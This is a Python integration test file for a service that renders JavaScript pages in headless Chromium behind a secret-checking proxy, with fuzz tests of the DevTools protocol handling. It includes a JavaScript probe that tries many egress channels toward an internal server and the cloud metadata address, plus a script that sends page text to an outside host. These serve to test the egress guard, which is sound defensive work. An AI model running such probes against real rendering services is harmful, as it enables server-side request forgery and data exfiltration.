"""A page that a script fills, rendered by Debian's Chromium or by a server that plays a browser in hostile hands."""

from __future__ import annotations

import asyncio
import json
import logging
import shutil
from collections.abc import AsyncIterator, Awaitable, Callable, Iterable, Iterator, Mapping, Sequence
from contextlib import asynccontextmanager
from dataclasses import dataclass, field, replace
from http import HTTPStatus
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from aiohttp import web
from hypothesis import given, settings
from hypothesis import strategies as st

from cli.devkit.kafka.jars import program
from schemas.job import Sources
from telemetry.metrics import Metrics
from tests.aiohttp_server import serving
from tests.drawn import drawn
from tests.integration.name_server import name_server
from tests.integration.raw_server import CLOCK, FACT, HTML, LOOPBACK, enriching, page, saying, speaking
from tests.loopback_server import LoopbackServer
from workers.egress import EgressPolicy, Guard, Proxy
from workers.enrichment.enrich import Enricher
from workers.enrichment.evidence import Page
from workers.enrichment.fetching.fetch import Fetcher, Politeness
from workers.enrichment.fetching.robots import Robots
from workers.enrichment.processes.pool import Pool
from workers.enrichment.rendering.renderer import Renderer
from workers.enrichment.rendering.visit import MOST_MESSAGES
from workers.enrichment.settings import EnrichmentSettings
from workers.enrichment.turns import Asker

SECRET = "r3nder-s3cret"


class Chromium(LoopbackServer):
    """A context manager of a browser without a window, with DevTools on a loopback port."""

    fenced: Sequence[str] = ("--webrtc-ip-handling-policy=disable_non_proxied_udp",)

    def command(self) -> Sequence[str | Path]:
        """The browser's command line, as in docs/howto/reading.md."""
        profile = self._folder / "profile"
        shutil.rmtree(profile, ignore_errors=True)
        return [
            program("chromium", "chromium"), "--headless", f"--remote-debugging-port={self.port}",
            *self.fenced, "--disable-gpu", "--no-sandbox", f"--user-data-dir={profile}",
        ]  # fmt: skip


@dataclass
class Front:
    """The rendering service as a worker sees it: the proxy in front of the browser."""

    url: str
    secret: str = SECRET
    refused: int = 0
    opened: int = 0
    """Number of the WebSockets that were opened."""


@asynccontextmanager
async def front(chromium: Chromium) -> AsyncIterator[Front]:
    """Pass a request on to the browser only if it carries the secret."""
    made = Front("")

    async def answer(request: web.Request) -> web.StreamResponse:
        if request.headers.get("Authorization") != f"Bearer {made.secret}":
            made.refused += 1
            return web.Response(status=HTTPStatus.UNAUTHORIZED)
        inside = f"http://127.0.0.1:{chromium.port}{request.path.removeprefix('/chrome')}"
        async with aiohttp.ClientSession() as session:
            if request.headers.get("Upgrade", "").lower() != "websocket":
                async with session.get(inside) as found:
                    return web.Response(status=found.status, body=await found.read())
            made.opened += 1
            outer = web.WebSocketResponse(max_msg_size=0)
            await outer.prepare(request)
            async with session.ws_connect(inside, max_msg_size=0) as inner:
                await passed_on(outer, inner)
            return outer

    async def passed_on(outer: web.WebSocketResponse, inner: aiohttp.ClientWebSocketResponse) -> None:
        async def out() -> None:
            async for message in inner:
                await outer.send_str(message.data)

        async def into() -> None:
            async for message in outer:
                await inner.send_str(message.data)

        ways = [asyncio.create_task(out()), asyncio.create_task(into())]
        await asyncio.wait(ways, return_when=asyncio.FIRST_COMPLETED)
        for way in ways:
            way.cancel()
        await asyncio.gather(*ways, return_exceptions=True)

    application = web.Application()
    application.router.add_get("/chrome/{rest:.*}", answer)
    runner = web.AppRunner(application, access_log=None, shutdown_timeout=0)
    async with serving(runner) as origin:
        made.url = f"{origin}/chrome"
        yield made


QUESTION = "When did the Halvorsen bridge open?"
SHELL_TEXT = "This application about the Halvorsen bridge needs JavaScript."
SHELL = f"""<!doctype html><html><head><title>Bridge</title></head><body><div id="app">{SHELL_TEXT}</div>
<script src="/app.js"></script></body></html>"""
SHOW = "fetch('/fact').then(r => r.json()).then(v => { document.getElementById('app').textContent = v.fact })"
"""The script of an application that shows the fact."""
ETAG = '"the-shell-never-changes"'


@dataclass
class Application:
    """A server of an application: a page without the fact, its script, and the data that the script loads."""

    origin: str = ""
    fact: str = FACT
    paths: list[str] = field(default_factory=list)
    hosts: list[str] = field(default_factory=list)

    @property
    def url(self) -> str:
        return f"{self.origin}/"

    @property
    def port(self) -> int:
        return int(self.origin.rpartition(":")[2])


@asynccontextmanager
async def application(
    script: str = SHOW, shell: str = SHELL, robots: str = "", moved: Mapping[str, str] | None = None
) -> AsyncIterator[Application]:
    """Serve an application on 127.0.0.1. `moved` has the targets of paths that redirect."""
    made = Application()
    answers = {"/": (shell, "text/html"), "/app.js": (script, "text/javascript"), "/robots.txt": (robots, "text/plain")}

    async def answer(request: web.BaseRequest) -> web.StreamResponse:
        made.paths.append(request.path)
        made.hosts.append(request.host)
        if moved is not None and request.path in moved:
            return web.Response(status=302, headers={"Location": moved[request.path]})
        if request.path == "/fact":
            return web.json_response({"fact": made.fact})
        if request.path not in answers:
            return web.Response(status=404)
        body, media_type = answers[request.path]
        if request.headers.get("If-None-Match") == ETAG:
            return web.Response(status=304, headers={"ETag": ETAG})
        return web.Response(text=body, content_type=media_type, headers={"ETag": ETAG})

    runner = web.ServerRunner(web.Server(answer), shutdown_timeout=0)
    async with serving(runner) as origin:
        made.origin = origin
        yield made


@dataclass
class Canary(asyncio.DatagramProtocol):
    """An internal server on one port of TCP and UDP, which records every datagram and connection."""

    port: int = 0
    signs: list[str] = field(default_factory=list)

    def datagram_received(self, data: bytes, client: tuple[str, int]) -> None:
        self.signs.append("datagram")

    async def answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Record the connection, and answer with a secret that any script may read."""
        self.signs.append("connection")
        head = b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Type: text/html\r\n"
        writer.write(head + b"Content-Length: 15\r\nConnection: close\r\n\r\ninternal secret")
        writer.close()


@asynccontextmanager
async def canary() -> AsyncIterator[Canary]:
    made = Canary()
    server = await asyncio.start_server(made.answer, "127.0.0.1", 0)
    made.port = server.sockets[0].getsockname()[1]
    loop = asyncio.get_running_loop()
    transport, _ = await loop.create_datagram_endpoint(lambda: made, ("127.0.0.1", made.port))
    try:
        yield made
    finally:
        transport.close()
        server.close()
        await server.wait_closed()


@asynccontextmanager
async def connect_proxy(public: str, port: int) -> AsyncIterator[tuple[int, list[str]]]:
    """Serve a proxy that connects to 127.0.0.1:`port` in place of `public`.

    Yields its port, and the requested targets.
    """
    asked: list[str] = []

    async def script(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        if not asked[-1].startswith(f"{public}:"):
            writer.write(b"HTTP/1.1 502 Bad Gateway\r\n\r\n")
            return
        writer.write(b"HTTP/1.1 200 OK\r\n\r\n")
        far_reader, far_writer = await asyncio.open_connection("127.0.0.1", port)
        await asyncio.gather(_copied(reader, far_writer), _copied(far_reader, writer))

    async with speaking(script, targets=asked) as origin:
        yield int(origin.rpartition(":")[2]), asked


async def _copied(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    try:
        while data := await reader.read(65536):
            writer.write(data)
    except ConnectionError:
        pass
    finally:
        writer.close()


PUBLIC = "93.184.215.14"


@pytest.fixture(scope="module")
def chromium(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Chromium]:
    with Chromium(tmp_path_factory.mktemp("chromium")) as one:
        yield one


@asynccontextmanager
async def rendering(service: Front, guard: Guard | None = None, **settings: object) -> AsyncIterator[Enricher]:
    """An enricher with this renderer, and with the patience of a busy machine."""
    values = {"renderer": service.url, "renderer_secret": SECRET, "renderer_seconds": 60, "budget_seconds": 110}
    async with enriching(guard, **{**values, **settings}) as enricher:
        yield enricher


async def text_of(enricher: Enricher, url: str) -> str:
    """The passages of the only source of a job."""
    evidence = await enricher.enrich(Sources(urls=[url]), QUESTION)
    return " ".join(passage for source in evidence.sources for passage in source.passages)


async def test_a_page_that_its_script_fills_is_read_as_a_browser_shows_it(chromium: Chromium) -> None:
    async with front(chromium) as service, application() as site, rendering(service) as enricher:
        assert await text_of(enricher, site.url) == FACT
    assert site.paths == ["/", "/app.js", "/fact"]


@pytest.mark.parametrize("body", [page("<script>go()</script>" + "<p>More of the text.</p>" * 20), b"<p>Short.</p>"])
async def test_a_page_with_text_or_without_scripts_is_not_rendered(body: bytes, chromium: Chromium) -> None:
    async with front(chromium) as service, speaking(saying(body, HTML)) as origin, rendering(service) as enricher:
        assert await text_of(enricher, f"{origin}/")
    assert service.opened == 0


async def test_no_script_runs_without_a_renderer(chromium: Chromium) -> None:
    async with application() as site, enriching() as enricher:
        assert await text_of(enricher, site.url) == SHELL_TEXT
    assert site.paths == ["/"]


async def test_a_renderer_that_refuses_the_secret_leaves_the_page_as_it_was_read(
    chromium: Chromium, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    wrong = "wr0ng-s3cret"
    async with front(chromium) as service, application() as site, rendering(service, renderer_secret=wrong) as enricher:
        assert await text_of(enricher, site.url) == SHELL_TEXT
    assert (service.refused, service.opened) == (1, 0)
    lines = [record.getMessage() for record in caplog.records]
    assert sum("renderer-failed" in line and "it answered 401" in line for line in lines) == 1
    assert not any(wrong in line for line in lines)


async def test_a_browser_that_lets_datagrams_out_is_not_used(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    chromium = Chromium(tmp_path)
    chromium.fenced = ()
    with chromium:
        async with front(chromium) as service, application() as site, rendering(service) as enricher:
            assert await text_of(enricher, site.url) == SHELL_TEXT
    assert site.paths == ["/"]
    assert "it was started without --webrtc-ip-handling-policy=disable_non_proxied_udp" in caplog.text


async def test_a_renderer_that_is_away_is_used_again_when_it_is_back(
    chromium: Chromium, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("schemas.settings.constants_of", lambda _: frozenset())
    monkeypatch.setenv("POSTBACK_CACHE__NEGATIVE_SECONDS", "0")
    async with front(chromium) as service, application() as site, rendering(service) as enricher:
        chromium.kill()
        assert await text_of(enricher, site.url) == SHELL_TEXT
        chromium.start()
        assert await text_of(enricher, site.url) == FACT


async def test_a_shell_that_has_not_changed_is_rendered_again(
    chromium: Chromium, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("schemas.settings.constants_of", lambda _: frozenset())
    monkeypatch.setenv("POSTBACK_CACHE__FRESH_SECONDS", "0")
    async with front(chromium) as service, application() as site, rendering(service) as enricher:
        assert await text_of(enricher, site.url) == FACT
        site.fact = "The Halvorsen bridge in Tarnby has been closed since May."
        assert await text_of(enricher, site.url) == site.fact


async def test_an_older_copy_is_better_than_a_shell(chromium: Chromium, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("schemas.settings.constants_of", lambda _: frozenset())
    monkeypatch.setenv("POSTBACK_CACHE__FRESH_SECONDS", "0")
    async with front(chromium) as service, application() as site, rendering(service) as enricher:
        assert await text_of(enricher, site.url) == FACT
        service.secret = "another"
        evidence = await enricher.enrich(Sources(urls=[site.url]), QUESTION)
    assert [source.passages for source in evidence.sources] == [(FACT,)]
    assert evidence.notes == (f"source 1 ({site.origin}) is an older copy: the browser that runs its scripts failed",)


async def test_a_script_without_end_leaves_the_page_as_it_was_read_and_no_page_behind(chromium: Chromium) -> None:
    async with (
        front(chromium) as service,
        application("while (true) {}") as site,
        rendering(service, renderer_seconds=5) as enricher,
    ):
        assert await text_of(enricher, site.url) == SHELL_TEXT
    async with aiohttp.ClientSession() as session:
        while any(one["url"] == site.url for one in await targets(session, chromium)):
            await asyncio.sleep(0.1)


async def targets(session: aiohttp.ClientSession, chromium: Chromium) -> list[dict[str, str]]:
    async with session.get(f"http://127.0.0.1:{chromium.port}/json/list") as answer:
        listed: list[dict[str, str]] = await answer.json()
        return listed


async def test_a_page_that_never_rests_is_read_as_it_is_after_a_while(chromium: Chromium) -> None:
    polling = f"setInterval(() => {{ {SHOW} }}, 50)"
    async with (
        front(chromium) as service,
        application(polling) as site,
        rendering(service, renderer_seconds=15) as enricher,
    ):
        assert await text_of(enricher, site.url) == FACT
    assert len(site.paths) <= 202


async def test_a_page_that_loads_too_much_is_left_as_it_was_read(chromium: Chromium) -> None:
    async with (
        front(chromium) as service,
        application(SHOW + "/" * 5000) as site,
        rendering(service, renderer_bytes=4000) as enricher,
    ):
        assert await text_of(enricher, site.url) == SHELL_TEXT


async def test_a_script_that_robots_txt_forbids_is_not_loaded(chromium: Chromium) -> None:
    rules = "User-agent: *\nDisallow: /app.js"
    async with (
        front(chromium) as service,
        application(robots=rules) as site,
        rendering(service, robots=True) as enricher,
    ):
        assert await text_of(enricher, site.url) == SHELL_TEXT
    assert site.paths == ["/robots.txt", "/"]


# -- a page that several jobs share ----------------------------------------------------------------------------------


async def passages_in(enricher: Enricher, url: str, seconds: float) -> list[str]:
    """The passages of the only source of a job that has so much time."""
    evidence = await enricher.enrich(Sources(urls=[url], budget_seconds=seconds), QUESTION)
    return [passage for source in evidence.sources for passage in source.passages]


@pytest.mark.parametrize("shell", [SHELL, "<html><script src=/app.js></script></html>"])
async def test_a_job_renders_again_if_a_job_with_less_time_left_the_browser_too_early(shell: str) -> None:
    """In an earlier version, all jobs that shared a page got the time of the first one for its rendering."""
    asked, ended = asyncio.Event(), asyncio.Event()

    async def ready() -> None:
        if not asked.is_set():
            asked.set()
            await ended.wait()

    async with (
        browser(ready=ready) as url,
        application(shell=shell) as site,
        enriching(renderer=url, renderer_seconds=60) as enricher,
    ):
        first = asyncio.create_task(passages_in(enricher, site.url, 4))
        await asked.wait()
        try:
            assert await passages_in(enricher, site.url, 30) == [FACT]
            assert await first in ([], [SHELL_TEXT])
            assert await passages_in(enricher, site.url, 30) == [FACT]
        finally:
            ended.set()  # the server waits for its handlers


async def test_a_job_without_time_for_the_browser_takes_the_page_as_its_server_sent_it() -> None:
    asked, ready = asyncio.Event(), asyncio.Event()

    async def hung() -> None:
        asked.set()
        await ready.wait()

    async with (
        browser(ready=hung) as url,
        application() as site,
        enriching(renderer=url, renderer_seconds=60) as enricher,
    ):
        first = asyncio.create_task(passages_in(enricher, site.url, 30))
        await asked.wait()
        try:
            assert await passages_in(enricher, site.url, 2) == [SHELL_TEXT]
        finally:
            ready.set()
        assert await first == [FACT]


# -- ways out --------------------------------------------------------------------------------------------------------

WAYS_OUT = """
const busy = setInterval(() => fetch('/busy'), 200)
const show = text => { document.getElementById('app').textContent += ' leaked ' + text }
const ended = make => new Promise(end => { setTimeout(end, 5000); try { make(end) } catch (error) { end() } })
const host = 'HOST'
const code = `fetch('http://${host}/w').then(r => r.text()).then(t => postMessage(t), () => postMessage(''))`
const add = (name, values) => document.body.append(Object.assign(document.createElement(name), values))
const loaded = (name, values) => ended(end => add(name, { ...values, onload: end, onerror: end }))
open(`http://${host}/window`)
add('link', { rel: 'preconnect', href: `http://${host}` })
add('link', { rel: 'dns-prefetch', href: `http://${host}` })
navigator.sendBeacon(`http://${host}/beacon`, 'x')
add('form', { action: `http://${host}/form`, method: 'post', target: '_blank' })
document.forms[0].submit()
const talk = `
  for (const url of ['stun:${host}', 'turn:${host}?transport=tcp']) {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: url, username: 'x', credential: 'x' }] })
    peer.createDataChannel('x')
    peer.createOffer().then(offer => peer.setLocalDescription(offer))
  }`
const frame = values => document.body.appendChild(Object.assign(document.createElement('iframe'), values)).contentWindow
const talks = [() => window, () => frame({}), () => frame({ src: 'about:blank' }), () => open('about:blank')]
for (const of of talks) { try { of().eval(talk) } catch (error) {} }
const html = `<script>${talk}</script>`
const blob = URL.createObjectURL(new Blob([html], { type: 'text/html' }))
frame({ srcdoc: html })
frame({ src: blob })
frame({ sandbox: 'allow-scripts', srcdoc: html })
frame({ sandbox: 'allow-scripts allow-popups', src: blob })
frame({ src: `data:text/html,${encodeURIComponent(html)}` })
open(blob)
add('a', { href: blob, target: '_blank' })
document.querySelector('a').click()
const ways = [
  fetch(`http://${host}/fetch`).then(r => r.text()).then(show),
  fetch(`http://${host}/cors`, { mode: 'no-cors' }),
  fetch('/moved').then(r => r.text()).then(show),
  loaded('img', { src: `http://${host}/img` }),
  loaded('iframe', { src: `http://${host}/iframe` }),
  loaded('script', { src: `http://${host}/script` }),
  loaded('link', { rel: 'stylesheet', href: `http://${host}/style` }),
  loaded('object', { data: `http://${host}/object` }),
  ended(end => { const s = new WebSocket(`ws://${host}/ws`); s.onopen = s.onerror = end; s.onmessage = show }),
  ended(end => { const s = new EventSource(`http://${host}/events`); s.onopen = s.onerror = end }),
  ended(end => { const w = new Worker(URL.createObjectURL(new Blob([code])));
    w.onmessage = m => { if (m.data) show(m.data); end() }; w.onerror = end }),
  ended(() => 0),
]
Promise.allSettled(ways).then(() => { clearInterval(busy); location.href = `http://${host}/away`; SHOW })
"""


def way_out(host: str) -> str:
    """A script that tries every way to a host, and then shows the fact."""
    return WAYS_OUT.replace("HOST", host).replace("SHOW", SHOW)


@pytest.mark.parametrize(
    ("name", "policy"), [("127.0.0.1", LOOPBACK), ("app.example", EgressPolicy(names=frozenset({"app.example"})))]
)
async def test_no_script_of_a_page_reaches_an_internal_server(
    name: str, policy: EgressPolicy, chromium: Chromium
) -> None:
    """No script reaches the server even if jobs may read it, as the first policy allows."""
    names = name_server({name: [["127.0.0.1"]]})
    async with front(chromium) as service, canary() as internal, names as found:
        host = f"127.0.0.1:{internal.port}"
        guard = Guard(policy, found.resolver())
        site = application(way_out(host), moved={"/moved": f"http://{host}/moved"})
        async with site as served, rendering(service, guard) as enricher:
            assert await text_of(enricher, f"http://{name}:{served.port}/") == FACT
        assert {"/moved", "/fact"} < set(served.paths)
        assert internal.signs == []


async def test_no_script_reads_a_metadata_address(chromium: Chromium) -> None:
    site = application(way_out("169.254.169.254"))
    async with front(chromium) as service, site as served, rendering(service) as enricher:
        assert await text_of(enricher, served.url) == FACT


async def test_a_public_page_loads_from_public_addresses_only(chromium: Chromium) -> None:
    """Jobs may read 127.0.0.1 here, but the script of a public page does not reach it, by address or by name."""
    lookups = {"app.example": [[PUBLIC]], "api.example": [[PUBLIC]], "inside.example": [["127.0.0.1"]]}
    read = "fetch('http://{}:8080/fact').then(r => r.text(), () => '').then(t => document.body.append(t)).then(() => "
    script = read.format("inside.example") + read.format("127.0.0.1") + read.format("api.example") + "0)))"
    async with (
        front(chromium) as service,
        name_server(lookups) as names,
        application(script) as site,
        connect_proxy(PUBLIC, site.port) as (port, asked),
    ):
        policy = replace(LOOPBACK, development=True)
        guard = Guard(policy, names.resolver(), Proxy("127.0.0.1", port))
        async with rendering(service, guard, robots=True) as enricher:
            assert FACT in await text_of(enricher, "http://app.example:8080/")
    assert set(asked) == {f"{PUBLIC}:8080"}
    assert "/fact" in site.paths
    assert set(site.hosts) == {"app.example:8080", "api.example:8080"}


async def test_a_page_that_came_from_the_inside_by_a_name_that_is_not_listed_loads_nothing(chromium: Chromium) -> None:
    """Its script could send the internal page's text to any public address, by a URL."""
    lookups = {"rebind.example": [["127.0.0.1"]], "api.example": [[PUBLIC]]}
    told = "<script>fetch('http://api.example:8080/' + document.body.textContent)</script>"
    async with (
        front(chromium) as service,
        name_server(lookups) as names,
        application(shell=SHELL.replace("</body>", f"{told}</body>")) as site,
        connect_proxy(PUBLIC, site.port) as (port, asked),
    ):
        guard = Guard(replace(LOOPBACK, development=True), names.resolver(), Proxy("127.0.0.1", port, direct=LOOPBACK))
        async with rendering(service, guard) as enricher:
            assert await text_of(enricher, f"http://rebind.example:{site.port}/") == SHELL_TEXT
    assert site.paths == ["/"]
    assert asked == []


# -- a WebSocket server that plays a browser which a page controls, or another service in its place ----------------

EMPTY_PAGE = Page("http://127.0.0.1:1/", "text/html", "utf-8", b"<script src=/app.js></script>")
FACT_HTML = f"<p>{FACT}</p>"
RIGHT: dict[str, dict[str, Any]] = {
    "SystemInfo.getInfo": {"commandLine": "chromium --webrtc-ip-handling-policy=disable_non_proxied_udp"},
    "Target.createBrowserContext": {"browserContextId": "context"},
    "Target.createTarget": {"targetId": "target"},
    "Target.attachToTarget": {"sessionId": "session"},
    "Page.navigate": {"frameId": "frame", "loaderId": "loader"},
    "DOM.getDocument": {"root": {"nodeId": 1}},
}
IDLE = json.dumps({"method": "Page.lifecycleEvent", "params": {"name": "networkIdle", "loaderId": "loader"}})
VERSION = json.dumps({"webSocketDebuggerUrl": "ws://elsewhere.example:9/devtools/browser/1"}).encode()

Sent = str | bytes

values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=10), inner, max_size=3),
    max_leaves=8,
)
names = st.sampled_from(["requestId", "resourceType", "request", "name", "loaderId", "url", "method"])
params = st.dictionaries(names, values | st.sampled_from(["Document", "Script", "networkIdle", "loader"]), max_size=5)
paused = st.fixed_dictionaries(
    {
        "requestId": st.text(max_size=5),
        "resourceType": st.sampled_from(["Document", "Script", "XHR", "Image", ""]),
        "request": st.fixed_dictionaries({"url": st.text(max_size=30), "method": st.sampled_from(["GET", "POST"])}),
    }
)
methods = st.sampled_from(["Fetch.requestPaused", "Page.lifecycleEvent", ""])
events = st.fixed_dictionaries({"method": methods, "params": paused | params}).map(json.dumps)
messages = st.one_of(
    events,
    st.fixed_dictionaries({"id": st.integers(), "result": values}).map(json.dumps),
    values.map(json.dumps),
    st.text(max_size=20),
    st.binary(max_size=20),
)
"""Each message that may come unasked."""


@asynccontextmanager
async def browser(
    unasked: Iterable[Sent] = (),
    replies: Iterable[dict[str, Any] | None] = (),
    version: bytes = VERSION,
    html: str = FACT_HTML,
    ready: Callable[[], Awaitable[object]] | None = None,
) -> AsyncIterator[str]:
    """A browser that sends the next of `unasked` before each result, and the next of `replies` as the result.

    Without these, or with None, the browser keeps to the protocol. It begins when `ready` ends.
    """

    async def answer(request: web.Request) -> web.StreamResponse:
        if request.path == "/json/version":
            if ready is not None:
                await ready()
            return web.Response(body=version)
        sending, replying = iter(unasked), iter(replies)
        socket = web.WebSocketResponse()
        await socket.prepare(request)
        try:
            async for message in socket:
                command = json.loads(message.data)
                one = next(sending, None)
                if one is not None:
                    await (socket.send_str(one) if isinstance(one, str) else socket.send_bytes(one))
                reply = next(replying, None)
                right = {"outerHTML": html} if command["method"] == "DOM.getOuterHTML" else {}
                result = RIGHT.get(command["method"], right) if reply is None else reply
                await socket.send_json({"id": command["id"], "result": result})
                if command["method"] == "Page.navigate":
                    await socket.send_str(IDLE)
        except ConnectionError:
            pass  # the worker hung up
        return socket

    application = web.Application()
    application.router.add_get("/{path:.*}", answer)
    runner = web.AppRunner(application, access_log=None, shutdown_timeout=0)
    async with serving(runner) as origin:
        yield origin


async def rendered(url: str, **limits: float) -> Page | None:
    made = EnrichmentSettings.model_validate({"renderer": url, "robots": False, **limits})
    politeness, guard = Politeness(made, CLOCK), Guard(LOOPBACK)
    fetcher, pool = Fetcher(made, guard, politeness, CLOCK), Pool(made, Metrics())
    robots = Robots(made, fetcher, pool, politeness, CLOCK)
    renderer = Renderer(made, guard, fetcher, robots, pool, politeness, CLOCK, Metrics())
    await fetcher.start()
    await renderer.start()
    try:
        return (await renderer.rendered(EMPTY_PAGE, Asker("acme"), 60)).page
    finally:
        await renderer.close()
        await fetcher.close()


async def of_browser(
    unasked: Iterable[Sent] = (),
    replies: Iterable[dict[str, Any] | None] = (),
    version: bytes = VERSION,
    html: str = FACT_HTML,
    **limits: float,
) -> bytes | None:
    async with browser(unasked, replies, version, html) as url:
        page = await rendered(url, **limits)
    return None if page is None else page.body


async def test_a_browser_that_follows_the_protocol_is_read_at_the_operators_address() -> None:
    assert await of_browser() == FACT_HTML.encode()


@given(st.lists(st.none() | messages, max_size=15))
@settings(max_examples=drawn(60), deadline=None)
def test_no_message_ends_the_worker(unasked: list[Sent | None]) -> None:
    sent = [IDLE if one is None else one for one in unasked]
    assert asyncio.run(of_browser(sent, renderer_seconds=1)) in (None, FACT_HTML.encode())


@given(st.lists(st.none() | st.dictionaries(st.sampled_from([*"abc", "sessionId", "root"]), values), max_size=12))
@settings(max_examples=drawn(60), deadline=None)
def test_no_result_ends_the_worker(replies: list[dict[str, Any] | None]) -> None:
    assert asyncio.run(of_browser((), replies, renderer_seconds=1)) in (None, FACT_HTML.encode())


@given(st.binary(max_size=50) | values.map(lambda value: json.dumps({"webSocketDebuggerUrl": value}).encode()))
@settings(max_examples=drawn(60), deadline=None)
def test_no_description_of_a_browser_ends_the_worker(version: bytes) -> None:
    assert asyncio.run(of_browser(version=version, renderer_seconds=1)) in (None, FACT_HTML.encode())


@pytest.mark.parametrize(
    "unasked",
    [["x" * 300_000], ["[" * 50_000], ["{}", b"\x00"]],
    ids=["too large", "too deep", "binary"],
)
async def test_a_message_out_of_bounds_ends_the_rendering(unasked: list[Sent]) -> None:
    assert await of_browser(unasked, page_bytes=10_000, renderer_seconds=60) is None


async def test_html_out_of_bounds_is_not_read() -> None:
    assert await of_browser(html="x" * 20_000, page_bytes=10_000, renderer_seconds=60) is None
    assert await of_browser(html="x" * 20_000, page_bytes=30_000, renderer_seconds=60) is not None


async def test_messages_without_end_end_the_rendering() -> None:
    async def answer(request: web.BaseRequest) -> web.StreamResponse:
        if request.path == "/json/version":
            return web.Response(body=VERSION)
        socket = web.WebSocketResponse()
        await socket.prepare(request)
        try:
            while True:
                sent.append(1)
                await socket.send_str(IDLE)
        except ConnectionError:
            return socket

    sent: list[int] = []
    runner = web.ServerRunner(web.Server(answer), shutdown_timeout=0)
    async with serving(runner) as origin:
        assert await rendered(origin, renderer_seconds=60) is None
    assert len(sent) >= MOST_MESSAGES
